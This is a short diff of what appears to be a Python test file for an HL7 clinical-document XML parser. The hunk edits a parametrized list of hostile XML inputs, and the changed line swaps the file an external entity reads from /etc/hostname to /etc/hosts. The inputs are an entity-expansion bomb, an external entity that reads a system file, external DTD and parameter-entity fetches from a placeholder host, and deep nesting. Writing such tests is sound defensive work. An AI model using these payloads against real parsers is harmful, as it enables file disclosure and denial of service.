@@ -71,7 +71,7 @@ BOMB = '<!DOCTYPE a [<!ENTITY a "ha">' + "".join(
     "data",
     [
         f'{BOMB}]><ClinicalDocument xmlns="urn:hl7-org:v3"><title>&j;</title></ClinicalDocument>'.encode(),
-        b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]><ClinicalDocument xmlns="urn:hl7-org:v3">&x;</ClinicalDocument>',
+        b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hosts">]><ClinicalDocument xmlns="urn:hl7-org:v3">&x;</ClinicalDocument>',
         b'<!DOCTYPE a SYSTEM "http://ejemplo.invalid/a.dtd">' + BARE,
         b'<!DOCTYPE a [<!ENTITY % p SYSTEM "http://ejemplo.invalid/p">%p;]>' + BARE,
         BARE.replace(b"/>", b">") + b"<a>" * 300 + b"</a>" * 300 + b"</ClinicalDocument>",
